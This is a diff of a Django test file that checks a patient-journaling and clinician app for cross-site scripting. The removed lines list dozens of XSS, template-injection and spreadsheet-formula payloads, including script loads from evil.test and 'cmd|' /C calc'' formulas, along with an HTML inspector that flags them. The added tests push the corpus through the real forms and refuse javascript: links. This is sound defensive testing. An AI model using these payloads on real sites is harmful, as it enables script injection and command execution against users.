@@ -21,154 +21,68 @@ fetched once each, and every payload is checked in all of them:
 
 from __future__ import annotations
 
-import csv
 import datetime as dt
-import io
 import json
-import re
-import shutil
-import subprocess
-from dataclasses import dataclass, field
-from html.parser import HTMLParser
+from collections.abc import Callable
+from dataclasses import dataclass
+from dataclasses import field as dc_field
+from urllib.parse import urljoin
 
 import pytest
 import time_machine
 from django.contrib import admin
 from django.test import Client
 from django.urls import NoReverseMatch, reverse
+from django.utils.html import escape
 
 from clinicians import visits
 from clinicians.models_visits import FollowUpVisit
 from journaling import kinds
-from journaling.models import JournalEntry, StressorItem
+from journaling.models import CheckIn, JournalEntry, StressorItem
 from journaling.services import complete_exercise, save_checkin
 from journaling.stressors import add_stressor
 from outcomes import alerts
-from programs.models import Cohort, Enrolment, ExerciseTemplate, Program, ProgramVersion, Session, Week
+from outcomes.models import SafetyAlert
+from programs.models import (
+    Cohort,
+    Enrolment,
+    ExerciseTemplate,
+    Program,
+    ProgramVersion,
+    Session,
+    Week,
+)
+from programs.yaml_io.schema import CurriculumError, parse_curriculum
+from recovery.models import PatientProfile
 from tests.clinicians.test_views_use_access import _alert_for
-from tests.conftest import service_unavailable
 from tests.factories import PatientFactory
-from tests.test_permission_matrix import Matrix, all_patterns, client_as, expected, rule_for, url_for
+from tests.programs import builders
+from tests.test_permission_matrix import (
+    Matrix,
+    all_patterns,
+    client_as,
+    expected,
+    rule_for,
+    url_for,
+)
 from tests.test_permission_matrix import matrix as matrix  # noqa: F401  (the fixture)
+from tests.xss_checks import (
+    FIRST_FORMULA,
+    MARKER,
+    TEMPLATES,
+    Fields,
+    csv_problems,
+    form_with,
+    inspect_html,
+    payload,
+    pdf_text,
+    squeeze,
+)
 
 pytestmark = pytest.mark.django_db
 
 NOW = dt.datetime(2026, 3, 12, 15, 0, tzinfo=dt.UTC)
 TODAY = dt.date(2026, 3, 12)
-
-# {m} is the marker. Each stays under ~80 characters so that short fields hold one or more.
-TEMPLATES = [
-    '<script>alert("{m}")</script>',
-    "<ScRiPt src=//evil.test/{m}.js></ScRiPt>",
-    '"><script>alert(`{m}`)</script>',
-    "'><img src=x onerror=alert('{m}')>",
-    '<img src="x" onerror="alert(1)" alt="{m}">',
-    '<img src=x:alert(alt) onerror=eval(src) alt="{m}">',
-    '<svg onload=alert("{m}")>',
-    '<svg><script>alert("{m}")</script></svg>',
-    '<svg><animate onbegin=alert("{m}") attributeName=x dur=1s>',
-    '<svg><a xlink:href="javascript:alert(1)"><text>{m}</text></a></svg>',
-    '<body onload=alert("{m}")>',
-    "<iframe src=\"javascript:alert('{m}')\"></iframe>",
-    '<iframe srcdoc="<script>alert(1)</script>">{m}</iframe>',
-    "<a href=\"javascript:alert('{m}')\">click {m}</a>",
-    "<a href=\"jav&#x09;ascript:alert(1)\">{m}</a>",
-    "javascript:alert('{m}')",
-    "JaVaScRiPt:/*{m}*/alert(1)",
-    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== {m}",
-    '<math><mtext><table><mglyph><style><img src=x onerror=alert("{m}")>',
-    '<details open ontoggle=alert("{m}")>',
-    '<input autofocus onfocus=alert("{m}")>',
-    '<video><source onerror="alert(\'{m}\')"></video>',
-    '<audio src=x onerror=alert("{m}")>',
-    '<div style="background:url(javascript:alert(1))">{m}</div>',
-    "<div style=\"width: expression(alert('{m}'))\">",
-    '<style>@import "//evil.test/{m}.css";</style>',
-    "<link rel=stylesheet href=//evil.test/{m}.css>",
-    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('{m}')\">",
-    '<object data="data:text/html,<script>alert(1)</script>">{m}</object>',
-    "<embed src=\"javascript:alert('{m}')\">",
-    '<base href="//evil.test/{m}/">',
-    "<form action=\"javascript:alert('{m}')\"><button>{m}</button></form>",
-    "<!--{m}--><script>alert(1)</script>",
-    '</textarea><script>alert("{m}")</script>',
-    '</title><script>alert("{m}")</script>',
-    '</script><script>alert("{m}")</script>',
-    "\"onmouseover=\"alert('{m}')\"",
-    "' autofocus onfocus='alert(\"{m}\")",
-    '<scr<script>ipt>alert("{m}")</scr</script>ipt>',
-    '%3Cscript%3Ealert("{m}")%3C/script%3E',
-    '&lt;script&gt;alert("{m}")&lt;/script&gt;',
-    "<x-{m} onclick=alert(1)>tag</x-{m}>",
-    "{{7*7}} {{ request.user.email }} {m}",
-    "{% debug %} {% now 'Y' %} {m}",
-    "{{ settings.SECRET_KEY }}{% csrf_token %} {m}",
-    "${7*7} #{7*7} <%= 7*7 %> {m}",
-    "[click {m}](javascript:alert(1))",
-    '![{m}](x" onerror="alert(1))',
-    '=HYPERLINK("http://evil.test/{m}","open")',
-    "+cmd|' /C calc'!A0 {m}",
-    "-2+3+cmd|' /C calc'!A0 {m}",
-    "@SUM(1+1)*cmd|' /C calc'!A0 {m}",
-    "\u202e<script>alert('{m}')</script>",
-]
-assert len(TEMPLATES) >= 40
-FIRST_FORMULA = next(i for i, t in enumerate(TEMPLATES) if t.startswith("=HYPERLINK"))
-MARKER = re.compile(r"zz\d\dq\d\d")
-
-
-def payload(field_no: int, i: int) -> str:
-    return TEMPLATES[i].replace("{m}", f"zz{field_no:02d}q{i:02d}")
-
-
-@dataclass
-class Field:
-    """One free-text field: which payloads were written into it."""
-
-    name: str
-    no: int
-    written: set[int] = field(default_factory=set)
-
-    def all(self) -> str:
-        """Every payload, one a line (for text fields without a short limit)."""
-        self.written |= set(range(len(TEMPLATES)))
-        return "\n".join(payload(self.no, i) for i in range(len(TEMPLATES)))
-
-    def chunks(self, limit: int) -> list[str]:
-        """Every payload, packed into as few values of at most `limit` characters as fit."""
-        out: list[str] = []
-        for i in range(len(TEMPLATES)):
-            p = payload(self.no, i)
-            if out and len(out[-1]) + 1 + len(p) <= limit:
-                out[-1] += " " + p
-            else:
-                out.append(p)
-        self.written |= set(range(len(TEMPLATES)))
-        return out
-
-    def first(self, limit: int, start: int = 0) -> str:
-        """Only the payloads that fit in one value (a field a person has once), from the
-        `start`th on."""
-        value = ""
-        for n in range(len(TEMPLATES)):
-            i = (start + n) % len(TEMPLATES)
-            p = payload(self.no, i)
-            if len(value) + len(p) + 1 > limit:
-                break
-            value = f"{value} {p}".strip()
-            self.written.add(i)
-        return value
-
-
-class Fields:
-    def __init__(self) -> None:
-        self.by_name: dict[str, Field] = {}
-
-    def __getitem__(self, name: str) -> Field:
-        if name not in self.by_name:
-            self.by_name[name] = Field(name, len(self.by_name))
-        return self.by_name[name]
-
 
 # --- writing every field ------------------------------------------------------------------
 
@@ -284,71 +198,6 @@ def write_everything(m: Matrix) -> tuple[Fields, dict[str, str]]:
 
 # --- reading the answers ------------------------------------------------------------------
 
-URL_ATTRS = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background",
-             "srcdoc", "codebase", "cite", "longdesc", "ping", "lowsrc"}
-TEXT_ATTRS = {"value", "title", "aria-label", "alt", "placeholder", "content", "label"}
-BAD_SCHEMES = ("javascript:", "vbscript:", "data:text", "data:image/svg")
-
-
-class Inspector(HTMLParser):
-    """Collects the injections a page carries, and the text a person reads on it."""
-
-    def __init__(self) -> None:
-        super().__init__(convert_charrefs=True)
-        self.problems: list[str] = []
-        self.text: list[str] = []
-        self._raw_text: str | None = None  # inside a script or style
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        if MARKER.search(tag):
-            self.problems.append(f"a tag from user text: <{tag}>")
-        for name, value in attrs:
-            value = value or ""
-            compact = re.sub(r"[\x00-\x20]", "", value).lower()
-            if MARKER.search(name):
-                self.problems.append(f"an attribute from user text: <{tag} {name}>")
-            if name.startswith("on"):
-                self.problems.append(f"an event handler: <{tag} {name}={value[:60]!r}>")
-            if name in URL_ATTRS and compact.startswith(BAD_SCHEMES):
-                self.problems.append(f"a script URL: <{tag} {name}={value[:60]!r}>")
-            if MARKER.search(value):
-                if name in TEXT_ATTRS or name.startswith("data-") or name.startswith("aria-"):
-                    self.text.append(value)
-                elif name in URL_ATTRS and value.startswith(("/", "?", "#")):
-                    pass  # a link to this site carrying the words in its query: escaped
-                else:
-                    self.problems.append(f"user text in <{tag} {name}={value[:60]!r}>")
-        if tag in ("script", "style"):
-            kind = dict(attrs).get("type") or ""
-            self._raw_text = "" if "json" not in kind else None
-
-    def handle_endtag(self, tag: str) -> None:
-        if tag in ("script", "style"):
-            if self._raw_text is not None and MARKER.search(self._raw_text):
-                self.problems.append(f"user text inside <{tag}>: {self._raw_text[:80]!r}")
-            self._raw_text = None
-
-    def handle_data(self, data: str) -> None:
-        if self._raw_text is not None:
-            self._raw_text += data
-        self.text.append(data)
-
-    def handle_comment(self, data: str) -> None:
-        if MARKER.search(data):
-            self.problems.append(f"user text became a comment: {data[:60]!r}")
-
-
-def inspect_html(html: str, corpus: list[str]) -> tuple[list[str], str]:
-    """(problems, the page's readable text) for one HTML document."""
-    parser = Inspector()
-    parser.feed(html)
-    parser.close()
-    problems = list(parser.problems)
-    for p in corpus:
-        if ("<" in p or '"' in p) and p in html:
-            problems.append(f"unescaped in the source: {p[:70]!r}")
-    return problems, "\n".join(parser.text)
-
 
 def test_the_inspector_catches_an_unescaped_payload():
     """The checks are not vacuous: a page that printed user text with |safe is caught."""
@@ -358,7 +207,7 @@ def test_the_inspector_catches_an_unescaped_payload():
             continue
         problems, _ = inspect_html(f"<main><p>{p}</p></main>", corpus)
         assert problems, p
-    clean = "".join(f"<p>{escape_html(p)}</p>" for p in corpus)
+    clean = "".join(f"<p>{escape(p)}</p>" for p in corpus)
     problems, text = inspect_html(clean, corpus)
     assert problems == []
     assert all(p in text for p in corpus)
@@ -370,37 +219,6 @@ def escape_html(text: str) -> str:
     from django.utils.html import escape
 
     return escape(text)
-
-
-def pdf_text(pdf: bytes) -> str:
-    if not shutil.which("pdftotext"):
-        service_unavailable("pdftotext (poppler-utils) is not installed")
-    out = subprocess.run(["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True)
-    return out.stdout.decode()
-
-
-# The right-to-left override payload makes the PDF draw `<` in its mirrored run with the `>`
-# glyph, and the PDF's glyph-to-text map then reads every `>` of the document back as `<`
-# (and so on for the other mirrored pairs): pdftotext's answer is compared with the pairs
-# folded together, and without hyphens (it reads "<!--" back as "<!-"). The overridden
-# payload itself comes back in visual order: its marker, reversed, is looked for. The pages and the
-# PDF's HTML source are checked character for character.
-MIRRORED = str.maketrans({"<": "‹", ">": "‹", "(": "⁽", ")": "⁽", "[": "⁅", "]": "⁅",
-                          "{": "⦃", "}": "⦃"})
-
-
-def squeeze(text: str) -> str:
-    """The text without line breaks and spaces (a PDF wraps lines) and mirrored pairs folded."""
-    return re.sub(r"[\s-]+", "", text).translate(MIRRORED)
-
-
-FORMULA = re.compile(r"^[=+\-@\t\r]")
-NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?%?$")
-
-
-def csv_problems(body: str) -> list[str]:
-    return [f"formula cell {cell[:60]!r}" for row in csv.reader(io.StringIO(body)) for cell in row
-            if FORMULA.match(cell) and not NUMBER.match(cell)]
 
 
 # --- the test -----------------------------------------------------------------------------
@@ -510,3 +328,101 @@ def test_xss_corpus_through_every_free_text_field(matrix: Matrix, monkeypatch): 
               if squeeze(p := payload(fields[name].no, i)) not in printed
               and not ("\u202e" in p and MARKER.search(p)[0][::-1] in printed)]
     assert not absent, f"{len(absent)} payloads not in the PDFs' text:\n" + "\n".join(absent[:40])
+
+
+# --- through the forms --------------------------------------------------------------------
+
+
+@dataclass
+class Target:
+    """A form a person fills: on `page`, the one holding `field` (and `must_have`); `stored`
+    reads back what was saved; `limit` is the field's length (0: the whole corpus at once)."""
+
+    reader: str
+    page: str
+    field: str
+    stored: Callable[[], list[str]]
+    limit: int = 0
+    must_have: tuple[str, ...] = ()
+    extra: dict[str, str] = dc_field(default_factory=dict)
+    also: tuple[str, ...] = ()  # more text fields of the same form, given the same words
+
+
+def test_the_forms_keep_every_payload_as_written(matrix: Matrix):  # noqa: F811
+    """The corpus typed into the real forms is accepted and saved word for word (no
+    "sanitiser" eats a patient's words), and the page that shows it afterwards is clean."""
+    w = matrix.world
+    a = w.patient
+    f = Fields()
+    with time_machine.travel(NOW, tick=False):
+        _alert_for(a)
+        visit = FollowUpVisit.objects.get(pk=matrix.values["visit_id"])
+        targets = {
+            "display name": Target(
+                "patient_a", "/account/", "display_name", limit=120,
+                stored=lambda: [PatientProfile.objects.get(user=a).display_name]),
+            "stressor": Target(
+                "patient_a", "/journal/stressors/", "text", limit=500, must_have=("category",),
+                stored=lambda: list(StressorItem.objects.filter(patient=a).values_list("text", flat=True))),
+            "check-in note": Target(
+                "patient_a", "/today/", "note", limit=2000, must_have=("pain",),
+                extra={"pain": "4"},
+                stored=lambda: [CheckIn.objects.get(patient=a, local_date=TODAY).note]),
+            "visit notes": Target(
+                "clinician_a", reverse("clinicians:visit_detail", args=[a.pk, visit.pk]), "summary",
+                also=("discussed", "plan"),
+                stored=lambda: [FollowUpVisit.objects.get(pk=visit.pk).summary]),
+            "alert acknowledgement": Target(
+                "clinician_a", reverse("clinicians:patient_review", args=[a.pk]), "note",
+                stored=lambda: list(SafetyAlert.objects.values_list("acknowledgement_note", flat=True))),
+            "cohort name": Target(
+                "clinic_admin", reverse("clinicians:cohort_new"), "name", limit=200,
+                extra={"version": str(w.version.pk), "start_date": "2026-04-06",
+                       "meeting_time": "18:00", "capacity": "8"},
+                also=("location",),
+                stored=lambda: list(Cohort.objects.values_list("name", flat=True))),
+        }
+        clients = {r: client_as(matrix, r) for r in READERS}
+        problems: list[str] = []
+        for label, t in targets.items():
+            client = clients[t.reader]
+            field = f[label]
+            values = field.chunks(t.limit) if t.limit else [field.all()]
+            for value in values:
+                form = form_with(client.get(t.page).content.decode(), t.field, t.must_have)
+                data = {k: v for k, v in form["data"].items() if v is not None}
+                data |= t.extra | {name: value for name in (t.field, *t.also)}
+                response = client.post(urljoin(t.page, form["action"] or t.page), data)
+                if response.status_code not in (200, 302) or value not in t.stored():
+                    problems.append(f"{label}: {value[:60]!r} not saved as written "
+                                    f"({response.status_code})")
+            after = client.get(t.page).content.decode()
+            found, _text = inspect_html(after, [payload(field.no, i) for i in field.written])
+            problems += [f"{label}, {t.page}: {p}" for p in found]
+    assert not problems, "\n".join(problems[:40])
+    assert Cohort.objects.count() > 2, "the cohort form created cohorts"
+
+
+def test_a_script_url_is_refused_where_a_link_is_typed(matrix: Matrix):  # noqa: F811
+    """The only user-typed links (a cohort's video link, an exercise's media URL) are rendered
+    in href/src: a javascript: or data: URL is refused with a message, not stored."""
+    client = client_as(matrix, "clinic_admin")
+    url = reverse("clinicians:cohort_new")
+    before = Cohort.objects.count()
+    with time_machine.travel(NOW, tick=False):
+        for link in ("javascript:alert(1)", "JAVASCRIPT:alert(1)//https://x.test",
+                     "data:text/html,<script>alert(1)</script>", " javascript:alert(1)"):
+            form = form_with(client.get(url).content.decode(), "video_link")
+            data = {k: v for k, v in form["data"].items() if v is not None}
+            data |= {"version": str(matrix.world.version.pk), "name": "Evening group", "start_date": "2026-04-06", "meeting_time": "18:00",
+                     "capacity": "8", "video_link": link}
+            response = client.post(url, data)
+            assert response.status_code == 200, link
+            assert "Enter a valid URL" in response.content.decode(), link
+    assert Cohort.objects.count() == before
+    for link in ("javascript:alert(1)", "data:text/html,<b>x</b>"):
+        data = builders.doc()
+        data["exercises"][0]["media_url"] = link
+        with pytest.raises(CurriculumError) as refused:
+            parse_curriculum(builders.text(data))
+        assert any("media_url" in e for e in refused.value.errors), link
